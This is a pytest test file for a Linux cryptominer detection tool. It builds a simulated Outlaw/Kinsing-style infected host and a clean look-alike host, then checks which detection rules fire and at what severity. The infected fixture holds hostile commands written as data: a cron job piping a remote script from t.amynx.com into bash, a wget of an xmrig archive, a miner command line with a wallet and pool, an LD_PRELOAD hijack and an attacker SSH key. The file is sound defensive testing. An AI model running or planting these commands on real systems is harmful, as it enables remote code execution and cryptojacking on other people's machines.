"""The miner rule pack end to end: an infected host and a clean one through ``detect``.

The rules' own examples (test_rules.py) check each rule alone; this checks that they work
together on one case — stage 2 reads stage 1, severities rank the miner above the noise, a
clean host with ordinary look-alikes stays below medium, and the output is deterministic.
"""

from __future__ import annotations

import datetime as dt
import json
from pathlib import Path
from typing import Any

import pytest

from deminer.case import Case
from deminer.detect import iocs
from deminer.detect.engine import detect
from deminer.detect.finding import Finding
from deminer.detect.rules import load_rules

PACK = {
    "impact.mining_pool_reference", "impact.xmrig_flags", "impact.known_miner_name", "impact.cpu_hog",
    "defense_evasion.kernel_thread_masquerade", "defense_evasion.deleted_running_exe",
    "defense_evasion.exe_in_tmp_dir", "defense_evasion.hidden_process", "defense_evasion.ld_preload_hijack",
    "defense_evasion.immutable_attribute", "defense_evasion.base64_hidden_miner",
    "command_and_control.pool_connection", "command_and_control.ioc_in_command",
    "command_and_control.net_pool_dns", "command_and_control.known_bad_file_hash",
    "persistence.autostart_from_tmp", "persistence.watchdog_restart", "persistence.attacker_authorized_key",
    "persistence.cron_pipe_to_shell", "lateral_movement.stored_private_key",
    "lateral_movement.orchestration_config",
}
T0 = dt.datetime(2024, 3, 1, 9, 0, 0)
WALLET = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"


def _ip(host: str) -> str:
    """A distinct private address per host name."""
    return f"10.0.0.{sum(map(ord, host)) % 250 + 1}"


def infected(host: str = "web1") -> dict[str, list[dict[str, Any]]]:
    """An Outlaw/Kinsing-style outbreak on one host, as the collector would describe it."""
    miner = {"host": host, "pid": 4242, "ppid": 1, "name": "kswapd0",
             "exe": "/tmp/.X25-unix/.rsync/a/kswapd0",
             "cmdline": f"./kswapd0 -o 198.51.100.7:45700 -u {WALLET} -k --tls --donate-level 1",
             "user": "www-data", "cpu_percent": 392.0, "started": T0, "exe_deleted": False}
    return {
        "processes": [
            miner,
            {"host": host, "pid": 4300, "ppid": 1, "name": "kdevtmpfsi", "exe": "/tmp/kdevtmpfsi (deleted)",
             "exe_deleted": True, "cmdline": "/tmp/kdevtmpfsi", "user": "redis", "cpu_percent": 12.0,
             "started": T0, "hidden": True},
            {"host": host, "pid": 1, "ppid": 0, "name": "systemd", "exe": "/usr/lib/systemd/systemd",
             "cmdline": "/sbin/init", "user": "root", "cpu_percent": 0.1},
        ],
        "connections": [
            {"host": host, "pid": 4242, "proto": "tcp", "laddr": "10.0.0.5", "lport": 51000,
             "raddr": "198.51.100.7", "rport": 45700, "state": "ESTABLISHED"},
        ],
        "persistence": [
            {"host": host, "kind": "cron", "location": "/var/spool/cron/crontabs/www-data", "source_line": 1,
             "command": "*/2 * * * * pgrep -f kswapd0 || /tmp/.X25-unix/.rsync/a/kswapd0 >/dev/null 2>&1 &",
             "user": "www-data", "mtime": T0},
            {"host": host, "kind": "cron", "location": "/var/spool/cron/crontabs/redis", "source_line": 1,
             "command": "*/1 * * * * curl -fsSL http://t.amynx.com/ln/core.png?rds | bash", "user": "redis"},
            {"host": host, "kind": "ld_preload", "location": "/etc/ld.so.preload", "source_line": 1,
             "command": "/etc/libsystem.so"},
        ],
        "files": [
            {"host": host, "path": "/var/spool/cron/crontabs/www-data", "immutable": True,
             "reason": "persistence"},
            {"host": host, "path": "/etc/libsystem.so", "reason": "persistence", "sha256": "c" * 64},
        ],
        "ssh_keys": [
            {"host": host, "kind": "authorized", "path": "/root/.ssh/authorized_keys", "source_line": 1,
             "user": "root", "key_type": "ssh-rsa", "fingerprint": "SHA256:outlaw", "comment": "mdrfckr"},
            {"host": host, "kind": "private", "path": "/root/.ssh/id_rsa", "user": "root",
             "key_type": "ssh-rsa", "encrypted": False},
        ],
        "remote_targets": [
            {"host": host, "kind": "known_host", "target": "10.0.0.6",
             "location": "/root/.ssh/known_hosts"},
            {"host": host, "kind": "ansible_inventory", "target": "10.0.0.6",
             "location": "/etc/ansible/hosts"},
            {"host": host, "kind": "ansible_inventory", "target": "10.0.0.7",
             "location": "/etc/ansible/hosts"},
        ],
        "events": [
            {"host": host, "event": "shell_command", "source": "/var/www/.bash_history", "source_line": 3,
             "user": "www-data",
             "command": "wget -q http://198.51.100.7/xmrig.tar.gz && tar xzf xmrig.tar.gz"},
        ],
        "dns": [
            {"host": host, "ts": T0, "client": _ip(host), "qname": "t.amynx.com", "qtype": "A"},
        ],
        # The host's own address, as a live collection records it: lookups are attributed
        # to hosts by the asking address.
        "hosts": [{"host": host, "ips": [_ip(host)]}],
        "iocs": [
            {"kind": "sha256", "value": "c" * 64, "family": "Kinsing", "description": "libsystem.so",
             "source": "user:report.json:indicator--1"},
        ],
    }


def clean(host: str = "web2") -> dict[str, list[dict[str, Any]]]:
    """A busy but healthy server full of near misses."""
    return {
        "processes": [
            {"host": host, "pid": 900, "name": "postgres", "exe": "/usr/lib/postgresql/15/bin/postgres",
             "cmdline": "postgres: 15/main: autovacuum worker", "cpu_percent": 99.0, "user": "postgres"},
            {"host": host, "pid": 95, "ppid": 2, "name": "kswapd0", "cmdline": "", "user": "root"},
            {"host": host, "pid": 700, "name": "sshd", "exe": "/usr/sbin/sshd (deleted)", "exe_deleted": True,
             "cmdline": "sshd: /usr/sbin/sshd -D", "user": "root"},
            {"host": host, "pid": 701, "name": "redis-server", "exe": "/usr/bin/redis-server",
             "ld_preload": "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2", "cmdline": "redis-server *:6379"},
            {"host": host, "pid": 702, "name": "ssh", "exe": "/usr/bin/ssh",
             "cmdline": "ssh -o ServerAliveInterval=60 -p 2222 backup@10.0.0.9"},
        ],
        "connections": [
            {"host": host, "pid": 700, "proto": "tcp", "laddr": "0.0.0.0", "lport": 22, "state": "LISTEN"},
            {"host": host, "pid": 700, "proto": "tcp", "laddr": "10.0.0.8", "lport": 22,
             "raddr": "203.0.113.50", "rport": 45700, "state": "ESTABLISHED"},
        ],
        "persistence": [
            {"host": host, "kind": "cron", "location": "/etc/cron.d/certbot", "source_line": 12,
             "command": "0 */12 * * * root test -x /usr/bin/certbot && certbot -q renew"},
            {"host": host, "kind": "systemd", "location": "/lib/systemd/system/ssh.service",
             "source_line": 12,
             "command": "/usr/sbin/sshd -D $SSHD_OPTS [Restart=on-failure RestartSec=0]"},
            {"host": host, "kind": "profile", "location": "/home/dev/.bashrc", "source_line": 110,
             "command": "if [ -f ~/.bash_aliases ]; then . ~/.bash_aliases; fi"},
        ],
        "ssh_keys": [
            {"host": host, "kind": "authorized", "path": "/home/ops/.ssh/authorized_keys", "source_line": 1,
             "user": "ops", "key_type": "ssh-ed25519", "fingerprint": "SHA256:ops", "comment": "ops@laptop"},
            {"host": host, "kind": "private", "path": "/home/ops/.ssh/id_ed25519", "user": "ops",
             "encrypted": True},
        ],
        "dns": [{"host": host, "client": "10.0.0.8", "qname": "deb.debian.org", "qtype": "A"}],
    }


def run(*hosts: dict[str, list[dict[str, Any]]]) -> tuple[list[Finding], list[dict[str, Any]]]:
    rules = [r for r in load_rules() if r.id in PACK]
    assert {r.id for r in rules} == PACK
    with Case(None) as case:
        iocs.load_shipped(case)
        for tables in hosts:
            for table, rows in tables.items():
                case.add(table, rows)
        found = detect(case, rules)
        return found, case.query("SELECT source, message FROM errors")


def test_infected_host_is_found_by_every_angle() -> None:
    found, errors = run(infected())
    assert errors == []
    fired = {f.rule for f in found}
    # everything but the base64 detector, which has no hidden payload to find here
    assert fired == PACK - {"defense_evasion.base64_hidden_miner"}
    hog = [f for f in found if f.rule == "impact.cpu_hog"]
    assert [(f.entity, f.severity) for f in hog] == [("pid 4242", "high")]
    assert "impact.xmrig_flags" in hog[0].evidence["related_rules"]
    assert found[0].severity == "high"   # sorted most severe first
    for f in found:
        assert f.host == "web1" and f.attack and f.summary.strip()
        assert set(f.evidence) & {"pid", "location", "path", "source", "raddr", "qname", "library"}, f


def test_clean_host_stays_below_medium() -> None:
    found, errors = run(clean())
    assert errors == []
    loud = [(f.rule, f.summary) for f in found if f.severity not in ("info", "low")]
    assert loud == []
    assert {f.rule for f in found} == {"impact.cpu_hog", "defense_evasion.deleted_running_exe",
                                       "defense_evasion.ld_preload_hijack"}


def test_hosts_do_not_leak_into_each_other_and_output_is_deterministic() -> None:
    first, _ = run(infected("web1"), clean("web2"), infected("web3"))
    again, _ = run(clean("web2"), infected("web3"), infected("web1"))
    assert [json.dumps(f.to_json(), sort_keys=True) for f in first] == \
           [json.dumps(f.to_json(), sort_keys=True) for f in again]
    per_host = {h: sorted((f.rule, f.entity) for f in first if f.host == h) for h in ("web1", "web3")}
    assert per_host["web1"] == per_host["web3"]
    assert all(f.severity == "low" for f in first if f.host == "web2")


REAL_AUTH = Path(__file__).resolve().parents[2] / ".." / "shared" / "data" / "linux-auth"


def test_real_admin_commands_of_an_internet_facing_host_stay_quiet() -> None:
    """186 real sudo command lines (curl of .deb files, apt, tee, …) are not miner evidence."""
    if not REAL_AUTH.is_dir():
        pytest.skip("real evidence folder ../shared/data is absent")
    from deminer.sources.ingest import ingest

    with Case(None) as case:
        iocs.load_shipped(case)
        ingest(case, [REAL_AUTH])
        commands = case.query("SELECT count(*) AS n FROM events WHERE coalesce(command, '') <> ''")[0]["n"]
        if not commands:
            pytest.skip("no source for these logs yields commands yet")
        found = detect(case, [r for r in load_rules() if r.id in PACK])
        assert case.query("SELECT * FROM errors WHERE stage = 'detect'") == []
    assert commands >= 100
    assert [(f.rule, f.summary) for f in found] == []
